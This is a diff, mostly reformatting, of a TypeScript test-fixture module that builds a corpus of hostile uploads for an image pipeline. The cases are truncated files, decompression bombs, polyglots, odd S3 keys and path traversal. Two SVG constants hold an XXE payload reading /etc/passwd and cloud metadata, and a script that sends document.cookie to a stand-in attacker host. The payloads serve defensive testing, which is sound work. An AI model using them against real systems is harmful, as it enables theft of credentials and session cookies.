@@ -40,7 +40,7 @@ export function jpegHeaderClaiming(valid: Buffer, width: number, height: number)
   let offset = 2;
   while (offset + 9 < data.length) {
     if (data[offset] !== 0xff) throw new Error(`jpegHeaderClaiming: no marker at ${offset}`);
-    const marker = data[offset + 1] as number;
+    const marker = data[offset + 1];
     const length = data.readUInt16BE(offset + 2);
     // SOF0..SOF15 except DHT (C4), JPG (C8) and DAC (CC).
     if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) {
@@ -65,10 +65,17 @@ async function flatPng(width: number, height: number): Promise<Buffer> {
  * and embeds the profile, so the file's numbers differ from `rgb` (40,200,60 is stored as about
  * 97,197,81). A pipeline that honours the profile gives back `rgb`; one that ignores it does not.
  */
-export async function displayP3Jpeg(width: number, height: number, rgb: readonly [number, number, number]): Promise<Buffer> {
+export async function displayP3Jpeg(
+  width: number,
+  height: number,
+  rgb: readonly [number, number, number],
+): Promise<Buffer> {
   const raw = Buffer.alloc(width * height * 3);
   for (let i = 0; i < width * height; i++) raw.set(rgb, i * 3);
-  return sharp(raw, { raw: { width, height, channels: 3 } }).withIccProfile('p3').jpeg({ quality: 95 }).toBuffer();
+  return sharp(raw, { raw: { width, height, channels: 3 } })
+    .withIccProfile('p3')
+    .jpeg({ quality: 95 })
+    .toBuffer();
 }
 
 /** The sRGB colour of the P3 case: its stored P3 numbers differ from it by up to 57 per channel. */
@@ -76,14 +83,17 @@ export const P3_COLOUR = [40, 200, 60] as const;
 
 const SVG_EXTERNAL_ENTITY = Buffer.from(
   '<?xml version="1.0" standalone="no"?>\n' +
-    '<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY remote SYSTEM "http://169.254.169.254/latest/meta-data/"> ]>\n' +
+    '<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY ' +
+    'remote SYSTEM "http://169.254.169.254/latest/meta-data/"> ]>\n' +
     '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">' +
-    '<text x="0" y="20">&xxe;&remote;</text><image xlink:href="http://127.0.0.1:1/track.png" width="10" height="10"/></svg>',
+    '<text x="0" y="20">&xxe;&remote;</text><image ' +
+    'xlink:href="http://127.0.0.1:1/track.png" width="10" height="10"/></svg>',
 );
 
 const SVG_SCRIPT = Buffer.from(
   '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">' +
-    '<script type="text/javascript">fetch("https://attacker.invalid/?c="+document.cookie)</script><rect width="100" height="100"/></svg>',
+    '<script type="text/javascript">fetch("https://attacker.invalid/?c="+document.cookie)</script><rect ' +
+    'width="100" height="100"/></svg>',
 );
 
 const HTML_PAYLOAD = '<html><body><script>alert("polyglot")</script></body></html>';
@@ -117,12 +127,48 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
   const rgbRaw = await sharp(jpeg).raw().toBuffer();
 
   const cases: CorpusCase[] = [
-    { name: 'zero-bytes', description: '0-byte object named .jpg', key: at('zero.jpg'), body: Buffer.alloc(0), expect: { outcome: 'rejected', code: 'EMPTY' } },
-    { name: 'truncated-jpeg', description: 'first half of a 400x300 JPEG', key: at('truncated.jpg'), body: truncateImage(jpeg), expect: { outcome: 'rejected', code: 'TRUNCATED' } },
-    { name: 'truncated-png', description: 'first half of a 400x300 PNG', key: at('truncated.png'), body: truncateImage(png), expect: { outcome: 'rejected', code: 'TRUNCATED' } },
-    { name: 'truncated-webp', description: 'first half of a 400x300 WebP', key: at('truncated.webp'), body: truncateImage(webp), expect: { outcome: 'rejected', code: 'TRUNCATED' } },
-    { name: 'text-as-jpg', description: 'CSV text named .jpg', key: at('notes.jpg'), body: TEXT, expect: { outcome: 'rejected', code: 'NOT_AN_IMAGE' } },
-    { name: 'html-as-jpg', description: 'an HTML error page named .jpg', key: at('page.jpg'), body: HTML, expect: { outcome: 'rejected', code: 'NOT_AN_IMAGE' } },
+    {
+      name: 'zero-bytes',
+      description: '0-byte object named .jpg',
+      key: at('zero.jpg'),
+      body: Buffer.alloc(0),
+      expect: { outcome: 'rejected', code: 'EMPTY' },
+    },
+    {
+      name: 'truncated-jpeg',
+      description: 'first half of a 400x300 JPEG',
+      key: at('truncated.jpg'),
+      body: truncateImage(jpeg),
+      expect: { outcome: 'rejected', code: 'TRUNCATED' },
+    },
+    {
+      name: 'truncated-png',
+      description: 'first half of a 400x300 PNG',
+      key: at('truncated.png'),
+      body: truncateImage(png),
+      expect: { outcome: 'rejected', code: 'TRUNCATED' },
+    },
+    {
+      name: 'truncated-webp',
+      description: 'first half of a 400x300 WebP',
+      key: at('truncated.webp'),
+      body: truncateImage(webp),
+      expect: { outcome: 'rejected', code: 'TRUNCATED' },
+    },
+    {
+      name: 'text-as-jpg',
+      description: 'CSV text named .jpg',
+      key: at('notes.jpg'),
+      body: TEXT,
+      expect: { outcome: 'rejected', code: 'NOT_AN_IMAGE' },
+    },
+    {
+      name: 'html-as-jpg',
+      description: 'an HTML error page named .jpg',
+      key: at('page.jpg'),
+      body: HTML,
+      expect: { outcome: 'rejected', code: 'NOT_AN_IMAGE' },
+    },
     {
       name: 'png-bomb-50000',
       description: 'PNG header claiming 50,000 x 50,000 (7.5 GB of RGB) in under 100 bytes',
@@ -139,12 +185,19 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
     },
     {
       name: 'png-flat-100mp',
-      description: 'a deflate bomb at the pixel limit: 10,000 x 10,000 flat PNG (~300 KB) that decodes to 300 MB of RGB',
+      description:
+        'a deflate bomb at the pixel limit: 10,000 x 10,000 flat PNG (~300 KB) that decodes to 300 MB of RGB',
       key: at('flat-100mp.png'),
       body: await flatPng(10_000, 10_000),
       expect: { outcome: 'resized', width: 10_000, height: 10_000, format: 'png' },
     },
-    { name: 'animated-gif', description: '3-frame animated GIF', key: at('animated.gif'), body: await animatedImage('gif', 3, 32), expect: { outcome: 'rejected', code: 'ANIMATED' } },
+    {
+      name: 'animated-gif',
+      description: '3-frame animated GIF',
+      key: at('animated.gif'),
+      body: await animatedImage('gif', 3, 32),
+      expect: { outcome: 'rejected', code: 'ANIMATED' },
+    },
     {
       name: 'cmyk-jpeg',
       description: 'CMYK JPEG (print workflow export)',
@@ -156,7 +209,10 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
       name: 'png-16bit',
       description: '16-bit-per-channel RGB PNG',
       key: at('deep.png'),
-      body: await sharp(rgbRaw, { raw: { width: 400, height: 300, channels: 3 } }).toColourspace('rgb16').png().toBuffer(),
+      body: await sharp(rgbRaw, { raw: { width: 400, height: 300, channels: 3 } })
+        .toColourspace('rgb16')
+        .png()
+        .toBuffer(),
       expect: { outcome: 'resized', width: 400, height: 300, format: 'png' },
     },
     {
@@ -166,7 +222,13 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
       body: SVG_EXTERNAL_ENTITY,
       expect: { outcome: 'rejected', code: 'UNSUPPORTED_FORMAT' },
     },
-    { name: 'svg-script-as-jpg', description: 'SVG with onload and <script>, named .jpg', key: at('script.jpg'), body: SVG_SCRIPT, expect: { outcome: 'rejected', code: 'UNSUPPORTED_FORMAT' } },
+    {
+      name: 'svg-script-as-jpg',
+      description: 'SVG with onload and <script>, named .jpg',
+      key: at('script.jpg'),
+      body: SVG_SCRIPT,
+      expect: { outcome: 'rejected', code: 'UNSUPPORTED_FORMAT' },
+    },
     {
       name: 'polyglot-jpeg-html-zip',
       description: 'valid JPEG followed by an HTML <script> page and a ZIP trailer (GIFAR-style)',
@@ -174,7 +236,13 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
       body: Buffer.concat([small, Buffer.from(HTML_PAYLOAD), zipTrailer()]),
       expect: { outcome: 'resized', width: 240, height: 180, format: 'jpeg' },
     },
-    { name: 'polyglot-gif-js', description: 'GIF header that is also JavaScript (GIF89a=...alert())', key: at('polyglot-js.gif'), body: gifJsPolyglot(), expect: { outcome: 'rejected', code: 'CORRUPT' } },
+    {
+      name: 'polyglot-gif-js',
+      description: 'GIF header that is also JavaScript (GIF89a=...alert())',
+      key: at('polyglot-js.gif'),
+      body: gifJsPolyglot(),
+      expect: { outcome: 'rejected', code: 'CORRUPT' },
+    },
     {
       name: 'icc-display-p3',
       description: 'flat JPEG in Display P3 (embedded ICC profile)',
@@ -191,16 +259,40 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
       name: `exif-orientation-${orientation}`,
       description: `300x200 JPEG with EXIF orientation ${orientation}`,
       key: at(`exif-${orientation}.jpg`),
-      body: await synthesizeImage({ width: 300, height: 200, seed: 610 + orientation, format: 'jpeg', orientation: orientation as 1 }),
+      body: await synthesizeImage({
+        width: 300,
+        height: 200,
+        seed: 610 + orientation,
+        format: 'jpeg',
+        orientation: orientation as 1,
+      }),
       expect: { outcome: 'resized', width: swapped ? 200 : 300, height: swapped ? 300 : 200, format: 'jpeg' },
     });
   }
 
   const goodSmall: Expectation = { outcome: 'resized', width: 240, height: 180, format: 'jpeg' };
   cases.push(
-    { name: 'key-spaces', description: 'key with spaces', key: at('my holiday photo.jpg'), body: small, expect: goodSmall },
-    { name: 'key-plus', description: "key with '+' (S3 encodes it %2B, a space as '+')", key: at('a+b=c.jpg'), body: small, expect: goodSmall },
-    { name: 'key-unicode', description: 'key with accents, Cyrillic and CJK', key: at('été Москва 日本.jpg'), body: small, expect: goodSmall },
+    {
+      name: 'key-spaces',
+      description: 'key with spaces',
+      key: at('my holiday photo.jpg'),
+      body: small,
+      expect: goodSmall,
+    },
+    {
+      name: 'key-plus',
+      description: "key with '+' (S3 encodes it %2B, a space as '+')",
+      key: at('a+b=c.jpg'),
+      body: small,
+      expect: goodSmall,
+    },
+    {
+      name: 'key-unicode',
+      description: 'key with accents, Cyrillic and CJK',
+      key: at('été Москва 日本.jpg'),
+      body: small,
+      expect: goodSmall,
+    },
     {
       name: 'key-noncharacter',
       description: 'key holding U+FFFE, which SQS message bodies and XML 1.0 cannot carry',
@@ -209,7 +301,13 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
       expect: { outcome: 'rejected', code: 'INVALID_KEY' },
       notificationOnly: true,
     },
-    { name: 'key-percent', description: "key holding literal '%20' and '%' (must not be decoded twice)", key: at('100%25 sure%20really %.jpg'), body: small, expect: goodSmall },
+    {
+      name: 'key-percent',
+      description: "key holding literal '%20' and '%' (must not be decoded twice)",
+      key: at('100%25 sure%20really %.jpg'),
+      body: small,
+      expect: goodSmall,
+    },
     {
       name: 'key-dotdot',
       description: "key with a '../' segment (path traversal once the bucket is synced to disk)",
@@ -218,7 +316,13 @@ export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCas
       expect: { outcome: 'rejected', code: 'INVALID_KEY' },
       notificationOnly: true,
     },
-    { name: 'key-folder-marker', description: "0-byte object whose key ends in '/' (S3 console 'Create folder')", key: at('new folder/'), body: Buffer.alloc(0), expect: { outcome: 'ignored' } },
+    {
+      name: 'key-folder-marker',
+      description: "0-byte object whose key ends in '/' (S3 console 'Create folder')",
+      key: at('new folder/'),
+      body: Buffer.alloc(0),
+      expect: { outcome: 'ignored' },
+    },
     {
       name: 'key-folder-with-bytes',
       description: "key ending in '/' that holds an image: no file name to derive outputs from",
